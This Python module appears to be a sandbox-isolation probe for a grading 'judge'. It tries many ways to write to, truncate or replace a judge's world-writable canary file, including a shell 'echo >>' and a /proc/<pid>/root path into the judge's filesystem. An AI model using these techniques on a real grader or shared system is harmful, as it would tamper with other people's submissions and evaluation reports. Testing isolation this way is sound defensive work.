# attack: Writes to a file of the judge that everybody may write, by every way to write, shorten or punch holes.
# hurts: Changes what others handed in, or the report.
# ends: returns or error
import mmap
import os
import subprocess

from _raw import attempt


def attack(target):
    path = target["canary_file"]
    tried = [attempt(way.__name__, way, path) for way in (appended, mapped, shortened, cut, reserved, sent, made_anew)]
    tried.append(attempt("shell", subprocess.run, f"echo x >> {path}", shell=True, check=False, timeout=2))
    return [*tried, attempt("outer", appended, f"/proc/{target['judge_pid']}/root{path}")]


def appended(path):
    with open(path, "a") as file:
        return file.write("x")


def mapped(path):
    with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as view:
        view[0] = 120
        return "changed"


def shortened(path):
    os.truncate(path, 1)


def cut(path):
    os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))


def reserved(path):
    descriptor = os.open(path, os.O_RDWR)
    os.posix_fallocate(descriptor, 0, 1 << 16)
    os.close(descriptor)


def sent(path):
    with open(__file__, "rb") as source, open(path, "r+b") as file:
        return os.sendfile(file.fileno(), source.fileno(), 0, 100)


def made_anew(path):
    os.unlink(path)
    with open(path, "x") as file:
        return file.write("another")
